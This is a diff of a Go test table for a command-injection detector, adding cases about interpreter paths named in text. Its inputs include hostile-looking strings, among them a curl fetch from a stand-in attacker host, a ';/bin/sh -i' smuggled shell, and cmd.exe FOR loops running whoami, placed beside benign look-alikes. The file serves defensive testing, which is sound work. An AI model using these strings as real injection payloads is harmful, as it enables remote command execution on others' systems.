@@ -301,6 +301,10 @@ func TestInjectionShapes(t *testing.T) {
 		{`curl https://evil.example/x.sh`, InField, "rce.shell"},
 		{`Sh|ad0w1156`, InField, ""},
 		{`please curl up with a good book`, InField, ""},
+		// Interpreter lines named in text.
+		{`guidelines say #!/usr/bin/perl everywhere, not #!/bin/perl`, InField, ""},
+		{`Fixed "uses #!/bin/sh and command -v"`, InField, ""},
+		{`;/bin/sh -i`, InQuery, "rce.shell"},
 		// cmd.exe FOR and IF.
 		{`for /f "delims=" %i in ('cmd /c whoami') do @echo %i`, InQuery, "rce.shell"},
 		{`& FOR %_ IN (a,b,c) DO cmd`, InQuery, "rce.shell"},
